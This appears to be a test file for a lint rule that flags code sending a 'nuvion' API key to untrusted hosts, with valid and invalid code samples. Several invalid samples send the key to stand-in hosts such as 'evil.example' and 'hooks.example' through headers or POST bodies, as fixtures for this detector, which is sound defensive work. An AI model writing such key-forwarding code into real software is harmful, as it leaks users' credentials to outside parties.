import { testRule } from '../scenarios/test-rule.ts'

testRule('no-key-to-untrusted-host', {
  valid: [
    "fetch('https://api.nuvion.co/x', { headers: { Authorization: `Bearer ${nuvionKey}` } })",
    "fetch('https://api.nuvion.dev/x', { headers: { Authorization: `Bearer ${process.env.NUVION_API_KEY}` } })",
    "fetch('http://localhost:3000', { headers: { Authorization: `Bearer ${nuvionKey}` } })",
    "const post = (url, text) => fetch(url, { method: 'POST', body: text }); post('https://api.nuvion.co/x', nuvionKey)",
    "fetch('/api/nuvion', { headers: { Authorization: `Bearer ${token}` } })",
    { code: "fetch('https://proxy.example.com', { headers: { Authorization: nuvionKey } })", options: { hosts: ['example.com'] } },
    { code: "fetch('https://proxy.example.com', { headers: { Authorization: nuvionKey } })", settings: { hosts: ['proxy.example.com'] } },
    "fetch('https://api.example.com', { headers: { Authorization: `Bearer ${apiKey}` } }) // nuvion elsewhere",
    "fetch(url, { headers: { Authorization: nuvionKey } })",
    "axios.post('https://api.nuvion.co/x', { nuvionKey })",
    "axios.post('https://hooks.example/x', { text: 'NUVION_API_KEY was rotated' })",
  ],
  invalid: [
    { code: "const post = text => fetch('https://evil.example', { method: 'POST', body: JSON.stringify({ text }) })\npost(nuvionKey)", errors: ['foreign:2'] },
    { code: "fetch('https://evil.example', { headers: { Authorization: nuvionKey } })", errors: ['foreign:1'] },
    { code: "axios.post('https://hooks.example/x', {}, { headers: { 'x-key': process.env.NUVION_API_KEY } })", errors: ['foreign:1'] },
    {
      code: "fetch('http://api.nuvion.co/x', { headers: { Authorization: `Bearer ${nuvionKey}` } })",
      errors: ['plain:1'],
      suggestions: [[{ messageId: 'https', output: "fetch('https://api.nuvion.co/x', { headers: { Authorization: `Bearer ${nuvionKey}` } })" }]],
    },
    { code: "axios.post('https://hooks.example/x', { text: `new key ${process.env.NUVION_API_KEY}` })", errors: ['foreign:1'] },
  ],
})
